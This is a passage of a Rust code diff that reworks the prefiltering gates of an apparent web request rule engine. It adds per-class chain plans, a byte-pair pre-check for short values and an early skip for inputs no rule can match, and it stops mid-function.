@@ -20,6 +20,12 @@
 //! automata run at all; a rule without such literals makes its chain and classes always
 //! run them. The gate can only skip searches that would find nothing, so verdicts are
 //! those of the ungated search (a test compares both on every corpus).
+//!
+//! What a subject of each class goes through (the chains whose rules target it, their
+//! gates, key globs, glob and content rules) is listed when the rules are compiled. A
+//! short value whose chains only lowercase it is gated without transforming it, by a
+//! byte-pair scan of the raw value ([`ShortGate`]); a subject all of whose gates are
+//! shut, and that no glob or content rule targets, is passed over at once.
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
 use std::sync::atomic::{AtomicU64, Ordering};
@@ -219,6 +225,16 @@ struct CompiledRule {
     methods: Vec<Vec<u8>>,
 }
 
+/// What [`RuleSet::search_chain`] runs: the automata when `open` (the gate's pre-check
+/// already `decided` it, or the literal search still has to), unless not `prefilter`.
+#[derive(Clone, Copy, Debug)]
+struct Search {
+    gate: Gate,
+    open: bool,
+    decided: bool,
+    prefilter: bool,
+}
+
 /// A subject of one request that rules may target.
 #[derive(Clone, Copy, Debug)]
 struct Subject<'a> {
@@ -256,9 +272,13 @@ impl CompiledRule {
     }
 }
 
+/// Header names up to this length are compared to key globs up to ASCII case (longer
+/// ones as they are).
+const LOWERCASED_KEY_LEN: usize = 128;
+
 fn glob_match_ignore_case(pattern: &[u8], text: &[u8]) -> bool {
     // Header names are short: compare a lowercased copy on the stack.
-    let mut buf = [0u8; 128];
+    let mut buf = [0u8; LOWERCASED_KEY_LEN];
     if text.len() > buf.len() {
         return glob_match(pattern, text);
     }
@@ -282,19 +302,9 @@ pub(crate) struct RuleSet {
     literal_rules: Vec<usize>,
     /// Distinct transform chains, and the subject classes each is needed for.
     chains: Vec<(Vec<Transform>, u16)>,
-    /// Per chain and subject class (`chain * CLASS_COUNT + class bit`), the glob and
-    /// content-mismatch rules (neither automaton finds them) that target the class.
-    other_rules: Vec<Vec<usize>>,
-    /// Per chain and subject class (`chain * CLASS_COUNT + class bit`): when the
-    /// automata need to run.
-    gates: Vec<Gate>,
-    /// Per chain and subject class, the gate of a subject whose key matches none of
-    /// `key_globs`: without the rules that target only inputs of certain keys (the
-    /// scanner names of `header:user-agent` need not open the gate of every header).
-    unkeyed_gates: Vec<Gate>,
-    /// Per chain and subject class, the key globs of the rules that target only inputs
-    /// of certain keys (lowercase for headers).
-    key_globs: Vec<Vec<(bool, Vec<u8>)>>,
+    /// Per subject class (its bit's index), the chains a subject of the class goes
+    /// through, worked out once here so that evaluating a subject walks no rules.
+    plans: Vec<Vec<ChainPlan>>,
     /// The literal automata of the gates.
     gate_automata: Vec<LiteralSearch>,
     /// The byte tables of the gates' scalar pre-check (see [`ShortGate`]).
@@ -303,9 +313,65 @@ pub(crate) struct RuleSet {
     gate_pairs: Vec<PairTable>,
 }
 
+/// What a subject of one class needs from one transform chain whose rules target the
+/// class.
+#[derive(Debug)]
+struct ChainPlan {
+    chain: usize,
+    /// When the automata need to run for a subject whose key one of `key_globs`
+    /// matches, or for any subject when there are none.
+    gate: Gate,
+    /// The gate of a subject whose key matches none of `key_globs`: without the rules
+    /// that target only inputs of certain keys (the scanner names of
+    /// `header:user-agent` need not open the gate of every header).
+    unkeyed_gate: Gate,
+    /// The key globs of the rules that target only inputs of certain keys.
+    key_globs: Vec<KeyGlob>,
+    /// The glob and content-mismatch rules (neither automaton finds them) that target
+    /// the class.
+    others: Vec<usize>,
+}
+
+impl ChainPlan {
+    /// The gate of a subject with this key.
+    fn gate_for(&self, key: &[u8]) -> Gate {
+        if self.key_globs.is_empty() || self.key_globs.iter().any(|k| k.matches(key)) {
+            self.gate
+        } else {
+            self.unkeyed_gate
+        }
+    }
+}
+
+/// A key glob of a rule's target (lowercase for headers).
+#[derive(Debug)]
+struct KeyGlob {
+    glob: Vec<u8>,
+    header: bool,
+    /// No `*`: a comparison decides.
+    literal: bool,
+}
+
+impl KeyGlob {
+    fn new(header: bool, glob: Vec<u8>) -> KeyGlob {
+        KeyGlob { literal: !glob.contains(&b'*'), glob, header }
+    }
+
+    /// As [`CompiledRule::applies_to`] matches keys.
+    #[inline(never)]
+    fn matches(&self, key: &[u8]) -> bool {
+        match (self.header, self.literal) {
+            (true, true) if key.len() <= LOWERCASED_KEY_LEN => key.eq_ignore_ascii_case(&self.glob),
+            (true, false) => glob_match_ignore_case(&self.glob, key),
+            (false, false) => glob_match(&self.glob, key),
+            (_, true) => key == self.glob.as_slice(),
+        }
+    }
+}
+
 /// Whether the DFA and the literal automaton can match a subject of one class after one
 /// transform chain.
-#[derive(Debug)]
+#[derive(Clone, Copy, Debug)]
 enum Gate {
     /// No regex or literal rule of the chain targets the class.
     Never,
@@ -325,38 +391,78 @@ enum Gate {
 /// per byte.
 const SHORT_GATE_LEN: usize = 256;
 
-/// In a [`ShortGate`]'s byte table: a pair of the [`PairTable`] starts with this byte
-/// (either ASCII case).
-const STARTS_PAIR: u8 = 1;
-/// A one-byte window is this byte (either ASCII case).
-const IS_WINDOW: u8 = 2;
-/// A step of the chain other than lowercasing may change a value holding this byte.
-const CHANGES_VALUE: u8 = 4;
+/// In a [`ShortGate`]'s tables: bits 0-5 are groups of anchor pairs (a pair `a`, `b` of
+/// group `g` sets bit `g` of `first[a]` and of `second[b]`, either ASCII case);
+const PAIR_GROUPS: u8 = 0x3f;
+/// `first['/']` and `second['/']` when a step of the chain (path normalisation) may
+/// change a value holding `//`;
+const CHANGES_IF_DOUBLED: u8 = 0x40;
+/// in `first`, a byte that decides on its own (a one-byte window, or a byte a step of
+/// the chain other than lowercasing may change); in `second`, every byte and the end.
+const ALONE: u8 = 0x80;
 
 /// A gate's pre-check on the raw value, for chains whose steps other than lowercasing
 /// leave a value without certain bytes as it is (URL decoding without `%`, removing
-/// NULs without a NUL, ...). Such a value, transformed, is the value itself up to
-/// ASCII case, so a gate's window occurs in it (lowercased) only where the window's
-/// pair in the [`PairTable`] occurs in the raw value up to case. A value without any
-/// such pair and without a byte the chain may change needs neither the transform nor
-/// the SIMD search: the gate is closed. Anything else goes the usual way.
+/// NULs without a NUL, path normalisation without `.`, `\` or `//`, ...). Such a value,
+/// transformed, is the value itself up to ASCII case, so a gate's window occurs in it
+/// (lowercased) only where the window's anchor pair (see [`window_anchor`]) occurs in
+/// the raw value up to case. Two tables say, per byte, which groups of anchor pairs it
+/// starts and ends: a value where no byte starts a group the next one ends, nearly
+/// every value, is decided by two lookups per byte, eight bytes at a time. Where one
+/// does, the anchor pair is looked up and the windows holding it are compared in place,
+/// up to case. A byte the chain may change leaves only the usual way to tell
+/// (transform, then search).
 #[derive(Debug)]
 struct ShortGate {
-    bytes: [u8; 256],
+    first: [u8; 256],
+    second: [u8; 256],
+    /// The bytes the chain may change.
+    changes: [bool; 256],
     pairs: usize,
 }
 
-/// Bit `a << 8 | b` is set when a window holds the bytes `a`, `b` in a row (either
-/// ASCII case): for each window, its pair least likely in ordinary text, since any
-/// piece of a window occurs wherever the window does.
-///
-/// With it, the windows themselves, searched up to ASCII case in the raw value: where
-/// a pair occurs, this decides without the lowercased copy and the SIMD search's setup,
-/// which cost more than the search itself on a short value.
+/// The anchor pairs the [`ShortGate`]s look for, and the windows holding each.
 #[derive(Debug)]
 struct PairTable {
+    /// Bit `a << 8 | b` is set when `a`, `b` is an anchor pair (either ASCII case).
     pairs: Box<[u64; 1024]>,
-    exact: AhoCorasick,
+    /// The anchor pairs of the windows (lowercase, `a << 8 | b`), sorted.
+    keys: Vec<u16>,
+    /// For each of `keys`, the offset of the pair in its window, and the window
+    /// (lowercase).
+    windows: Vec<(usize, Vec<u8>)>,
+}
+
+/// How common a byte is in ordinary request values (lower is rarer): letters, spaces
+/// and digits are everywhere, a few punctuation bytes in names, numbers and domains;
+/// brackets, `$`, `<`, control and non-ASCII bytes are rare. Letters are ranked by their
+/// frequency in English.
+fn byte_commonness(b: u8) -> u32 {
+    match b.to_ascii_lowercase() {
+        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' | b'h' | b'l' | b' ' => 12,
+        b'd' | b'c' | b'u' | b'm' | b'f' | b'p' | b'g' | b'w' | b'y' | b'b' => 11,
+        b'a'..=b'z' => 10,
+        b'0'..=b'9' => 8,
+        b'.' | b',' | b'-' | b'/' | b'_' => 7,
+        b':' | b';' | b'=' | b'&' | b'?' | b'+' | b'\'' | b'"' | b'@' | b'!' | b'*' | b'#' | b'%' => 4,
+        b'(' | b')' => 3,
+        _ => 1,
+    }
+}
+
+/// Where a [`ShortGate`] looks for a window of two bytes or more: the offset of its
+/// pair of bytes in a row least likely in ordinary text (rarest as a pair, then by its
+/// bytes), since any piece of a window occurs wherever the window does; `None` for a
+/// one-byte window.
+fn window_anchor(window: &[u8]) -> Option<usize> {
+    (0..window.len().saturating_sub(1)).min_by_key(|&i| {
+        let (a, b) = (window[i], window[i + 1]);
+        (std::cmp::Reverse(pair_rarity(a, b)), byte_commonness(a).min(byte_commonness(b)), i)
+    })
+}
+
+fn lower_pair(a: u8, b: u8) -> u16 {
+    u16::from(a.to_ascii_lowercase()) << 8 | u16::from(b.to_ascii_lowercase())
 }
 
 /// How unusual two bytes in a row are in ordinary text: letters, digits and spaces run
@@ -380,38 +486,24 @@ fn pair_rarity(a: u8, b: u8) -> u32 {
     }
 }
 
-/// The first of a window's rarest pairs of bytes in a row, `None` for a one-byte window.
-fn rarest_pair(window: &[u8]) -> Option<(u8, u8)> {
-    let mut best: Option<(u32, u8, u8)> = None;
-    for pair in window.windows(2) {
-        let rarity = pair_rarity(pair[0], pair[1]);
-        if best.is_none_or(|(r, _, _)| rarity > r) {
-            best = Some((rarity, pair[0], pair[1]));
-        }
-    }
-    best.map(|(_, a, b)| (a, b))
-}
-
 impl PairTable {
-    fn new(windows: &[Vec<u8>]) -> Result<PairTable, String> {
-        let exact = AhoCorasickBuilder::new()
-            .ascii_case_insensitive(true)
-            .kind(Some(AhoCorasickKind::DFA))
-            .prefilter(false)
-            .build(windows)
-            .map_err(|e| format!("rules: the prefilter literals: {e}"))?;
-        let mut table = PairTable { pairs: Box::new([0; 1024]), exact };
+    fn new(windows: &[Vec<u8>]) -> PairTable {
+        let mut table = PairTable { pairs: Box::new([0; 1024]), keys: Vec::new(), windows: Vec::new() };
+        let mut anchored = Vec::new();
         for window in windows {
-            if let Some((a, b)) = rarest_pair(window) {
-                for a in [a, a.to_ascii_uppercase()] {
-                    for b in [b, b.to_ascii_uppercase()] {
-                        let pair = usize::from(a) << 8 | usize::from(b);
-                        table.pairs[pair >> 6] |= 1 << (pair & 63);
-                    }
+            let Some(start) = window_anchor(window) else { continue };
+            let (a, b) = (window[start], window[start + 1]);
+            for a in [a.to_ascii_lowercase(), a.to_ascii_uppercase()] {
+                for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
+                    let pair = usize::from(a) << 8 | usize::from(b);
+                    table.pairs[pair >> 6] |= 1 << (pair & 63);
                 }
             }
+            anchored.push((lower_pair(a, b), start, window.to_ascii_lowercase()));
         }
-        Ok(table)
+        anchored.sort();
+        (table.keys, table.windows) = anchored.into_iter().map(|(key, start, window)| (key, (start, window))).unzip();
+        table
     }
 
     #[inline]
@@ -419,53 +511,140 @@ impl PairTable {
         let pair = usize::from(a) << 8 | usize::from(b);
         self.pairs[pair >> 6] >> (pair & 63) & 1 != 0
     }
+
+    /// Does a window whose anchor pair is `a`, `b` at `at` occur there, up to ASCII case?
+    fn window_at(&self, value: &[u8], at: usize, a: u8, b: u8) -> bool {
+        if !self.has(a, b) {
+            return false;
+        }
+        let pair = lower_pair(a, b);
+        let first = self.keys.partition_point(|&p| p < pair);
+        let count = self.keys[first..].iter().take_while(|&&p| p == pair).count();
+        self.windows[first..first + count].iter().any(|(offset, window)| {
+            at.checked_sub(*offset)
+                .and_then(|start| value.get(start..start + window.len()))
+                .is_some_and(|piece| piece.iter().zip(window).all(|(x, y)| x.to_ascii_lowercase() == *y))
+        })
+    }
 }
 
 impl ShortGate {
     /// The pre-check of `windows` (lowercase, as searched) for a chain, or `None` when a
     /// step of the chain may change any value or a window is empty.
     fn new(chain: &[Transform], windows: &[Vec<u8>], pairs: usize) -> Option<ShortGate> {
-        let mut bytes = [0u8; 256];
+        let mut gate = ShortGate { first: [0; 256], second: [ALONE; 256], changes: [false; 256], pairs };
         for &t in chain {
-            if t == Transform::Lowercase {
-                continue; // the tables match either case
-            }
-            for &b in changed_only_at(t)? {
-                bytes[usize::from(b)] |= CHANGES_VALUE;
-            }
-        }
-        for window in windows {
-            let (first, flag) = match (window.first(), rarest_pair(window)) {
-                (None, _) => return None,
-                (_, Some((a, _))) => (a, STARTS_PAIR),
-                (Some(&b), None) => (b, IS_WINDOW),
+            let changed_at: &[u8] = match t {
+                Transform::Lowercase => continue, // the tables match either case
+                Transform::NormalizePath => {
+                    // It leaves a path without `.` or `..` segments, backslashes and
+                    // empty segments as it is (see `normalize_path`).
+                    gate.first[usize::from(b'/')] |= CHANGES_IF_DOUBLED;
+                    gate.second[usize::from(b'/')] |= CHANGES_IF_DOUBLED;
+                    b".\\"
+                }
+                _ => changed_only_at(t)?,
             };
-            for b in [first, first.to_ascii_uppercase()] {
-                bytes[usize::from(b)] |= flag;
+            for &b in changed_at {
+                gate.first[usize::from(b)] |= ALONE;
+                gate.changes[usize::from(b)] = true;
             }
         }
-        Some(ShortGate { bytes, pairs })
+        // Anchor pairs with the same first byte share a group; groups are dealt out in
+        // turn, so a byte that starts pairs of one group rarely meets one that ends a
+        // pair of the same group by chance.
+        let mut firsts: Vec<u8> = Vec::new();
+        for window in windows {
+            if window.is_empty() {
+                return None;
+            }
+            let Some(start) = window_anchor(window) else {
+                for b in [window[0].to_ascii_lowercase(), window[0].to_ascii_uppercase()] {
+                    gate.first[usize::from(b)] |= ALONE;
+                }
+                continue;
+            };
+            let (a, b) = (window[start].to_ascii_lowercase(), window[start + 1]);
+            let group = match firsts.iter().position(|&f| f == a) {
+                Some(i) => i,
+                None => {
+                    firsts.push(a);
+                    firsts.len() - 1
+                }
+            } % 6;
+            for a in [a, a.to_ascii_uppercase()] {
+                gate.first[usize::from(a)] |= 1 << group;
+            }
+            for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
+                gate.second[usize::from(b)] |= 1 << group;
+            }
+        }
+        Some(gate)
     }
 
     /// Whether the gate is open for `value`, or `None` when a byte the chain may change
-    /// leaves only the usual way to tell.
-    #[inline]
+    /// leaves only the usual way to tell. Out of line, so that the evaluation of a
+    /// subject around it keeps few registers to save.
+    #[inline(never)]
     fn is_open(&self, pairs: &PairTable, value: &[u8]) -> Option<bool> {
-        let mut pair_seen = false;
-        // Bytes without a flag, nearly all of them, cost one lookup and one test.
-        let mut rest = value;
-        while let [b, tail @ ..] = rest {
-            let flags = self.bytes[usize::from(*b)];
-            if flags != 0 {
-                if flags & CHANGES_VALUE != 0 {
-                    return None;
+        let (first, second) = (&self.first, &self.second);
+        let f = |b: u8| first[usize::from(b)];
+        let s = |b: u8| second[usize::from(b)];
+        let mut at = 0;
+        // Pairs of bytes in no group, nearly all of them, cost two lookups, an `and` and
+        // an `or`.
+        while let Some(c) = value.get(at..at + 9) {
+            let any = f(c[0]) & s(c[1])
+                | f(c[1]) & s(c[2])
+                | f(c[2]) & s(c[3])
+                | f(c[3]) & s(c[4])
+                | f(c[4]) & s(c[5])
+                | f(c[5]) & s(c[6])
+                | f(c[6]) & s(c[7])
+                | f(c[7]) & s(c[8]);
+            if any != 0 {
+                if let Some(decided) = self.look_closer(pairs, value, at..at + 8) {
+                    return decided;
                 }
-                pair_seen =
-                    pair_seen || flags & IS_WINDOW != 0 || tail.first().is_some_and(|&next| pairs.has(*b, next));
             }
-            rest = tail;
+            at += 8;
         }
-        Some(pair_seen && pairs.exact.is_match(value))
+        // The last byte pairs with nothing: only whether it decides alone counts.
+        let rest = value.get(at..).unwrap_or_default();
+        let mut any = rest.last().map_or(0, |&b| f(b) & ALONE);
+        for pair in rest.windows(2) {
+            any |= f(pair[0]) & s(pair[1]);
+        }
+        if any != 0 {
+            if let Some(decided) = self.look_closer(pairs, value, at..value.len()) {
+                return decided;
+            }
+        }
+        Some(false)
+    }
+
+    /// The pairs starting in `value[range]`: `Some` when one decides (a window occurs, or
+    /// a byte the chain may change), `None` when the rest of the value has to tell.
+    #[cold]
+    fn look_closer(&self, pairs: &PairTable, value: &[u8], range: std::ops::Range<usize>) -> Option<Option<bool>> {
+        for i in range {
+            let b = value[i];
+            let first = self.first[usize::from(b)];
+            if first == 0 {
+                continue;
+            }
+            let next = value.get(i + 1).copied();
+            let hit = first & next.map_or(ALONE, |n| self.second[usize::from(n)]);
+            // Only `/` then `/` meets `CHANGES_IF_DOUBLED` in both tables.
+            if self.changes[usize::from(b)] || hit & CHANGES_IF_DOUBLED != 0 {
+                return Some(None);
+            }
+            let anchor = |n| hit & PAIR_GROUPS != 0 && pairs.window_at(value, i, b, n);
+            if hit & ALONE != 0 || next.is_some_and(anchor) {
+                return Some(Some(true));
+            }
+        }
+        None
     }
 }
 
@@ -621,6 +800,7 @@ fn build_gates(
     set: &mut RuleSet,
     regex_literals: &[Option<Vec<Vec<u8>>>],
     literal_sets: &[Vec<Vec<u8>>],
+    mut other_rules: Vec<Vec<usize>>,
 ) -> Result<(), String> {
     let rules = &set.rules;
     let mut gates = Vec::with_capacity(set.chains.len() * CLASS_COUNT);
@@ -628,6 +808,7 @@ fn build_gates(
     let mut automata = Vec::new();
     let mut pair_tables = Vec::new();
     let mut short_gates = Vec::new();
+    let mut short_of: Vec<((usize, usize), Option<usize>)> = Vec::new();
     let mut unkeyed_gates = Vec::with_capacity(set.chains.len() * CLASS_COUNT);
     let mut key_globs = Vec::with_capacity(set.chains.len() * CLASS_COUNT);
     for (chain, (transforms, _)) in set.chains.iter().enumerate() {
@@ -645,7 +826,7 @@ fn build_gates(
             for rule in rules.iter().filter(|r| r.chain == chain && keyed(r)) {
                 for target in covering(rule, class) {
                     if let Target::Input { source, key: Some(key) } = target {
-                        globs.push((*source == Some(Source::Header), key.clone()));
+                        globs.push(KeyGlob::new(*source == Some(Source::Header), key.clone()));
                     }
                 }
             }
@@ -679,15 +860,23 @@ fn build_gates(
                         Some(i) => i,
                         None => {
                             automata.push(LiteralSearch::new(&literals)?);
-                            pair_tables.push(PairTable::new(&literals)?);
+                            pair_tables.push(PairTable::new(&literals));
                             sets.push(literals);
                             automata.len() - 1
                         }
                     };
-                    let short = ShortGate::new(transforms, &sets[search], search).map(|gate| {
-                        short_gates.push(gate);
-                        short_gates.len() - 1
-                    });
+                    // One pre-check per chain and literal set (its table is 64 KiB).
+                    let short = match short_of.iter().find(|(key, _)| *key == (chain, search)) {
+                        Some(&(_, short)) => short,
+                        None => {
+                            let short = ShortGate::new(transforms, &sets[search], search).map(|gate| {
+                                short_gates.push(gate);
+                                short_gates.len() - 1
+                            });
+                            short_of.push(((chain, search), short));
+                            short
+                        }
+                    };
                     Gate::Literals { search, short }
                 };
                 if with_keyed {
@@ -698,9 +887,23 @@ fn build_gates(
             }
         }
     }
-    set.gates = gates;
-    set.unkeyed_gates = unkeyed_gates;
-    set.key_globs = key_globs;
+    let mut key_globs = key_globs.into_iter();
+    set.plans = (0..CLASS_COUNT).map(|_| Vec::new()).collect();
+    for (chain, (_, classes)) in set.chains.iter().enumerate() {
+        for (class, plan) in set.plans.iter_mut().enumerate() {
+            let index = chain * CLASS_COUNT + class;
+            let key_globs = key_globs.next().unwrap_or_default();
+            if classes & (1 << class) != 0 {
+                plan.push(ChainPlan {
+                    chain,
+                    gate: gates[index],
+                    unkeyed_gate: unkeyed_gates[index],
+                    key_globs,
+                    others: std::mem::take(&mut other_rules[index]),
+                });
+            }
+        }
+    }
     set.gate_automata = automata;
     set.gate_pairs = pair_tables;
     set.short_gates = short_gates;
@@ -755,10 +958,7 @@ impl RuleSet {
             literals: None,
             literal_rules: Vec::new(),
             chains: Vec::new(),
-            other_rules: Vec::new(),
-            gates: Vec::new(),
-            unkeyed_gates: Vec::new(),
-            key_globs: Vec::new(),
+            plans: Vec::new(),
             gate_automata: Vec::new(),
             short_gates: Vec::new(),
             gate_pairs: Vec::new(),
@@ -823,7 +1023,7 @@ impl RuleSet {
                 .map_err(|e| invalid(format!("rules: the literal sets together: {e}")))?;
             set.literals = Some(automaton);
         }
-        set.other_rules = (0..set.chains.len() * CLASS_COUNT)
+        let other_rules = (0..set.chains.len() * CLASS_COUNT)
             .map(|gate| {
                 let (chain, class) = (gate / CLASS_COUNT, gate % CLASS_COUNT);
                 (0..set.rules.len())
@@ -837,7 +1037,7 @@ impl RuleSet {
                     .collect()
             })
             .collect();
-        build_gates(&mut set, &regex_literals, &literal_sets).map_err(invalid)?;
+        build_gates(&mut set, &regex_literals, &literal_sets, other_rules).map_err(invalid)?;
         Ok(set)
     }
 
@@ -870,22 +1070,26 @@ impl RuleSet {
             false
         };
         let plain = |class, value| Subject { class, value, input: None, source: None, key: b"" };
-        if visit(plain(CLASS_REQUEST_PATH, request.path()), scratch)
-            || visit(plain(CLASS_REQUEST_METHOD, method), scratch)
-        {
-            return first;
+        // Most subjects give no rule anything to look at, which their gates tell at once.
+        let closed = |class, key, value| prefilter && self.gates_closed(class, key, value);
+        for (class, value) in [(CLASS_REQUEST_PATH, request.path()), (CLASS_REQUEST_METHOD, method)] {
+            if !closed(class, b"", value) && visit(plain(class, value), scratch) {
+                return first;
+            }
         }
         for (index, input) in request.inputs().enumerate() {
+            let class = source_class(input.source);
+            let header = input.source == Source::Header;
+            // Decided before the exclusions: an input no rule can match needs no look at
+            // them.
+            if closed(class, input.key, input.value) && (!header || closed(CLASS_HEADER_NAMES, input.key, input.key)) {
+                continue;
+            }
             if skip_input(index) {
                 continue;
             }
-            let subject = Subject {
-                class: source_class(input.source),
-                value: input.value,
-                input: Some(index),
-                source: Some(input.source),
-                key: input.key,
-            };
+            let subject =
+                Subject { class, value: input.value, input: Some(index), source: Some(input.source), key: input.key };
             if visit(subject, scratch) {
                 return first;
             }
@@ -899,6 +1103,26 @@ impl RuleSet {
         first
     }
 
+    /// Whether a subject of `class` with this key and value is sure to match no rule:
+    /// every chain for the class has neither glob nor content rules for it, and its gate
+    /// is shut (no rule of it targets the class, or the short value's pre-check closes
+    /// it).
+    #[inline]
+    fn gates_closed(&self, class: u16, key: &[u8], value: &[u8]) -> bool {
+        let plans = self.plans.get(class.trailing_zeros() as usize).map_or(&[][..], Vec::as_slice);
+        plans.iter().all(|plan| {
+            plan.others.is_empty()
+                && match plan.gate_for(key) {
+                    Gate::Never => true,
+                    Gate::Literals { short: Some(short), .. } if value.len() <= SHORT_GATE_LEN => {
+                        let short = &self.short_gates[short];
+                        short.is_open(&self.gate_pairs[short.pairs], value) == Some(false)
+                    }
+                    _ => false,
+                }
+        })
+    }
+
     fn match_subject(
         &self,
         subject: &Subject<'_>,
@@ -908,23 +1132,9 @@ impl RuleSet {
         prefilter: bool,
     ) -> Option<RuleHit> {
         let mut found: Option<RuleHit> = None;
-        for (chain_index, (chain, classes)) in self.chains.iter().enumerate() {
-            if classes & subject.class == 0 {
-                continue;
-            }
-            let gate_index = chain_index * CLASS_COUNT + subject.class.trailing_zeros() as usize;
-            let key_matches = |&(header, ref glob): &(bool, Vec<u8>)| {
-                if header {
-                    glob_match_ignore_case(glob, subject.key)
-                } else {
-                    glob_match(glob, subject.key)
-                }
-            };
-            let keyed = self.key_globs.get(gate_index).map_or(&[][..], Vec::as_slice);
-            let gates =
-                if keyed.is_empty() || keyed.iter().any(key_matches) { &self.gates } else { &self.unkeyed_gates };
-            let gate = gates.get(gate_index).unwrap_or(&Gate::Always);
-            let others = self.other_rules.get(gate_index).map_or(&[][..], Vec::as_slice);
+        let plans = self.plans.get(subject.class.trailing_zeros() as usize).map_or(&[][..], Vec::as_slice);
+        for plan in plans {
+            let gate = plan.gate_for(subject.key);
             // A class no regex or literal rule of the chain targets needs the transformed
             // value only for the chain's glob and content rules; neither does a short
             // value the gate's pre-check closes.
@@ -933,7 +1143,7 @@ impl RuleSet {
                 _ if !prefilter => true,
                 Gate::Never => false,
                 Gate::Literals { search: _, short: Some(short) } if subject.value.len() <= SHORT_GATE_LEN => {
-                    let short = &self.short_gates[*short];
+                    let short = &self.short_gates[short];
                     match short.is_open(&self.gate_pairs[short.pairs], subject.value) {
                         Some(open) => {
                             decided = true;
@@ -944,79 +1154,107 @@ impl RuleSet {
                 }
                 _ => true,
             };
-            if !search && others.is_empty() {
+            if !search && plan.others.is_empty() {
                 continue;
             }
-            let RuleScratch { a, b, c, lower, cache } = &mut *scratch;
-            let value = transform(chain, subject.value, [a, b, c]);
-            let search = match gate {
-                Gate::Literals { search: automaton, .. } if prefilter && search && !decided => {
-                    // The chain's result is lowercase when it ends by lowercasing.
-                    let lowercase = if chain.last() == Some(&Transform::Lowercase) {
-                        value
-                    } else {
-                        lower.clear();
-                        lower.extend_from_slice(value);
-                        lower.make_ascii_lowercase();
-                        lower.as_slice()
-                    };
-                    self.gate_automata[*automaton].occurs_in(lowercase)
-                }
-                _ => search,
-            };
-            let mut consider = |rule_index: usize| -> bool {
-                let rule = &self.rules[rule_index];
-                if rule.chain != chain_index || !rule.applies_to(subject, method) {
-                    return false;
-                }
-                let hit = RuleHit { id: rule.id, action: rule.action, input: subject.input };
-                if found.is_none() || rule.action == Some(RuleAction::Allow) {
-                    found = Some(hit);
-                }
-                rule.action == Some(RuleAction::Allow)
-            };
-            if let Some(dfa) = self.dfa.as_ref().filter(|_| search) {
-                // One cache per thread's scratch, rebuilt only when the scratch meets
-                // another engine's rules.
-                if cache.as_ref().is_none_or(|(id, _)| *id != self.id) {
-                    *cache = Some((self.id, dfa.create_cache()));
-                }
-                let Some((_, cache)) = cache.as_mut() else { return found };
-                let input = SearchInput::new(value);
-                let mut state = OverlappingState::start();
-                // A search error can only come from a quit byte or a lazy DFA that gave
-                // up, and this one has neither (it never gives up: see `build_dfa`);
-                // treat one as "no more matches".
-                while dfa.try_search_overlapping_fwd(cache, &input, &mut state).is_ok() {
-                    let Some(m) = state.get_match() else { break };
-                    if consider(self.dfa_rules[m.pattern().as_usize()]) {
-                        return found;
-                    }
-                }
-            }
-            if let Some(ac) = self.literals.as_ref().filter(|_| search) {
-                for m in ac.find_overlapping_iter(value) {
-                    if consider(self.literal_rules[m.pattern().as_usize()]) {
-                        return found;
-                    }
-                }
-            }
-            for &index in others {
-                let rule = &self.rules[index];
-                let matched = match &rule.matcher {
-                    Matcher::Glob(glob) => glob_match(glob, value),
-                    Matcher::ContentMismatch => subject
-                        .input
-                        .and_then(|i| request.file_info(i))
-                        .is_some_and(|(ty, head)| content_mismatch(ty, head)),
-                    _ => false,
-                };
-                if matched && consider(index) {
-                    return found;
-                }
+            let search = Search { gate, open: search, decided, prefilter };
+            if self.search_chain(plan, search, subject, method, request, scratch, &mut found) {
+                return found;
             }
         }
         found
+    }
+
+    /// Transforms `subject` by the plan's chain and runs what `search` says on it: the
+    /// automata, then the chain's glob and content rules. Kept out of line: most
+    /// subjects never get here, and inlined it would make every subject pay for saving
+    /// and restoring its registers. True when an `allow` rule matched (`found` is then
+    /// that hit).
+    #[inline(never)]
+    #[allow(clippy::too_many_arguments)]
+    fn search_chain(
+        &self,
+        plan: &ChainPlan,
+        search: Search,
+        subject: &Subject<'_>,
+        method: &[u8],
+        request: &Request,
+        scratch: &mut RuleScratch,
+        found: &mut Option<RuleHit>,
+    ) -> bool {
+        let Search { gate, open: search, decided, prefilter } = search;
+        let chain_index = plan.chain;
+        let chain = self.chains[chain_index].0.as_slice();
+        let others = plan.others.as_slice();
+        let RuleScratch { a, b, c, lower, cache } = &mut *scratch;
+        let value = transform(chain, subject.value, [a, b, c]);
+        let search = match gate {
+            Gate::Literals { search: automaton, .. } if prefilter && search && !decided => {
+                // The chain's result is lowercase when it ends by lowercasing.
+                let lowercase = if chain.last() == Some(&Transform::Lowercase) {
+                    value
+                } else {
+                    lower.clear();
+                    lower.extend_from_slice(value);
+                    lower.make_ascii_lowercase();
+                    lower.as_slice()
+                };
+                self.gate_automata[automaton].occurs_in(lowercase)
+            }
+            _ => search,
+        };
+        let mut consider = |rule_index: usize| -> bool {
+            let rule = &self.rules[rule_index];
+            if rule.chain != chain_index || !rule.applies_to(subject, method) {
+                return false;
+            }
+            let hit = RuleHit { id: rule.id, action: rule.action, input: subject.input };
+            if found.is_none() || rule.action == Some(RuleAction::Allow) {
+                *found = Some(hit);
+            }
+            rule.action == Some(RuleAction::Allow)
+        };
+        if let Some(dfa) = self.dfa.as_ref().filter(|_| search) {
+            // One cache per thread's scratch, rebuilt only when the scratch meets
+            // another engine's rules.
+            if cache.as_ref().is_none_or(|(id, _)| *id != self.id) {
+                *cache = Some((self.id, dfa.create_cache()));
+            }
+            let Some((_, cache)) = cache.as_mut() else { return false };
+            let input = SearchInput::new(value);
+            let mut state = OverlappingState::start();
+            // A search error can only come from a quit byte or a lazy DFA that gave
+            // up, and this one has neither (it never gives up: see `build_dfa`);
+            // treat one as "no more matches".
+            while dfa.try_search_overlapping_fwd(cache, &input, &mut state).is_ok() {
+                let Some(m) = state.get_match() else { break };
+                if consider(self.dfa_rules[m.pattern().as_usize()]) {
+                    return true;
+                }
+            }
+        }
+        if let Some(ac) = self.literals.as_ref().filter(|_| search) {
+            for m in ac.find_overlapping_iter(value) {
+                if consider(self.literal_rules[m.pattern().as_usize()]) {
+                    return true;
+                }
+            }
+        }
+        for &index in others {
+            let rule = &self.rules[index];
+            let matched = match &rule.matcher {
+                Matcher::Glob(glob) => glob_match(glob, value),
+                Matcher::ContentMismatch => subject
+                    .input
+                    .and_then(|i| request.file_info(i))
+                    .is_some_and(|(ty, head)| content_mismatch(ty, head)),
+                _ => false,
+            };
